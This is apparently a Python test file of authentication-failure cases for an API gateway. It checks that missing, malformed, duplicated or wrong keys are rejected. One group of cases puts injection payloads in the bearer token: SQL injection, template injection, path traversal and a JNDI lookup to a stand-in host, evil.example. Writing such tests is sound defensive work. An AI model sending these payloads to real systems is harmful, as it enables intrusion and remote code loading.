"""Callers without a valid key, at a gateway that requires one."""

from collections.abc import Mapping

from bad_inputs_stage import Case, Endpoint, Send, good_body, request, takes_json
from kit.keys import SECRET, bearer

_UNKNOWN = frozenset({401})


OPEN = {"/", "/docs", "/health", "/healthz", "/livez", "/readyz", "/ca.pem", "/api/v1/caller"}
"""Endpoints that answer callers without a key."""


def _guarded(endpoint: Endpoint) -> bool:
    return endpoint.path not in OPEN


def _showing(headers: Mapping[str, str]) -> Send:
    return lambda endpoint: request(
        endpoint, good_body(endpoint) if takes_json(endpoint) else b"", {"Authorization": "", **headers}
    )


def _silent(endpoint: Endpoint) -> bytes:
    raw = request(endpoint, good_body(endpoint) if takes_json(endpoint) else b"")
    return b"\r\n".join(line for line in raw.split(b"\r\n") if not line.startswith(b"Authorization"))


GOOD = bearer()
GOOD_SECRET = SECRET
GOOD_KEY = f"weft_abcdefghijk1_{SECRET}"
CASES = (
    Case("A1 none", _silent, _UNKNOWN, _guarded),
    *(
        Case(f"A2 {scheme!r}", _showing({"Authorization": scheme}), _UNKNOWN, _guarded)
        for scheme in (
            "Basic dXNlcjpwYXNz",
            "Bearer",
            "Bearer ",
            "Negotiate x",
            "Bearer \xff",
            f"Token weft_abcdefghijk1_{SECRET}",
        )
    ),
    *(
        Case(f"A3 {text!r}", _showing({"Authorization": f"Bearer {text}"}), _UNKNOWN, _guarded)
        for text in (
            "' OR '1'='1",
            '"; DROP TABLE keys; --',
            "weft_' OR 1=1 --_x",
            "{{7*7}}",
            "${jndi:ldap://evil.example/a}",
            "../../etc/passwd",
        )
    ),
    Case("A4 key of 64 KB", _showing({"Authorization": "Bearer " + "x" * 65_536}), frozenset({431}), _guarded),
    Case("A4 key of 30 KB", _showing({"X-API-Key": "x" * 30_000}), _UNKNOWN, _guarded),
    Case("A7 wrong secret", _showing({"Authorization": f"Bearer weft_abcdefghijk1_{'6' * 64}"}), _UNKNOWN, _guarded),
    Case("A7 unknown key", _showing({"X-API-Key": f"weft_zzzzzzzzzzz9_{SECRET}"}), _UNKNOWN, _guarded),
    Case("A7 secret cut short", _showing({"X-API-Key": f"weft_abcdefghijk1_{SECRET[:-1]}"}), _UNKNOWN, _guarded),
    Case(
        "A13 good key in one place, bad in the other",
        _showing({"Authorization": "Bearer x", "X-API-Key": f"weft_abcdefghijk1_{SECRET}"}),
        _UNKNOWN,
        _guarded,
    ),
    Case(
        "A13 two keys",
        _showing({"Authorization": f"Bearer {GOOD_KEY}", "X-API-Key": f"weft_abcdefghijk2_{SECRET}"}),
        _UNKNOWN,
        _guarded,
    ),
    Case(
        "A13 another key in the query",
        lambda endpoint: request(
            endpoint,
            b"",
            {"Authorization": f"Bearer {GOOD_KEY}"},
            path=f"{endpoint.address}?key=weft_abcdefghijk2_{SECRET}",
        ),
        _UNKNOWN,
        _guarded,
    ),
    Case(
        "A13 key in the query",
        lambda endpoint: request(
            endpoint, b"", {"Authorization": ""}, path=f"{endpoint.address}?api_key=weft_abcdefghijk1_{SECRET}"
        ),
        _UNKNOWN,
        _guarded,
    ),
)
